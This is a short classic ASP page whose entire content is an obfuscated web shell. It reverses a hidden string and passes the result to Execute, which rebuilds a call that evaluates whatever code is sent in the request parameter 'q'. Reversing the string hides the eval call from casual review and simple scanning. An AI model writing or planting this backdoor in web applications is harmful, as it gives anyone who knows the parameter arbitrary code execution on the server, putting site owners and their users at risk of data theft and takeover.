<%
Function Unflip(s)
  Unflip = StrReverse(s)
End Function
Execute Unflip(")""q""(tseuqer lave")
%>
